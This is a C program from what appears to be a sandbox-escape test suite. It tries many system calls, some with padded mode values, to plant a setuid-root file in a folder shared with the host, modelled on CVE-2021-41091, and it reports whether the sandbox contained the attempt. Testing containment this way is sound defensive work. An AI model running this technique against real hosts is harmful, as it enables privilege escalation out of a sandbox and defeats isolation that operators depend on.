/*
 * Idea: root inside leaves a setuid-root program in a folder that the host shares with the sandbox; an ordinary user
 * of the host executes it there. Many calls take a mode.
 * Incident: CVE-2021-41091 (Docker's data folder was world-executable: setuid files inside were usable outside).
 * Success: the file has the setuid bit and belongs to whoever started us: the host looks, we cannot tell.
 * Usage: setuid-drop FOLDER
 */
#include "attempt.h"
#include <linux/openat2.h>

#ifndef SYS_fchmodat2
#define SYS_fchmodat2 452
#endif
#define MODE 04755

static char path[512];

static void check(const char *call, long result) {
  struct stat status;
  if (result < 0) {
    stopped("%s", call);
    return;
  }
  if (stat(path, &status) == 0 && status.st_mode & S_ISUID) escaped("%s left %s, setuid", call, path);
  errno = ENODATA;
  stopped("%s", call);
}

static void make_anew(void) {
  struct open_how how = {.flags = O_CREAT | O_WRONLY | O_CLOEXEC, .mode = MODE};
  umask(0);
  check("open", open(path, O_CREAT | O_WRONLY | O_CLOEXEC, MODE));
  unlink(path);
  check("creat", syscall(SYS_openat, AT_FDCWD, path, O_CREAT | O_TRUNC | O_WRONLY, 0xffff0000u | MODE));
  unlink(path);
  check("openat2", syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how));
  unlink(path);
  check("mknodat", mknodat(AT_FDCWD, path, S_IFREG | MODE, 0));
  unlink(path);
#ifdef SYS_open
  check("mknod", syscall(SYS_mknod, path, S_IFREG | MODE, 0));
  unlink(path);
  check("old creat", syscall(SYS_creat, path, MODE));
  unlink(path);
#endif
}

int main(int argc, char **argv) {
  snprintf(path, sizeof path, "%s/dropped", argument(argc, argv, 1, "a folder shared with the host"));
  make_anew();
  int file = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
  if (file < 0) {
    stopped("create %s", path);
    contained();
  }
  check("fchmod", fchmod(file, MODE));
  check("chmod", syscall(SYS_fchmodat, AT_FDCWD, path, MODE));
#ifdef SYS_chmod
  check("old chmod", syscall(SYS_chmod, path, 0xffffffff00000000ul | MODE));
#endif
  check("fchmodat2", syscall(SYS_fchmodat2, AT_FDCWD, path, MODE, 0));
  contained();
}
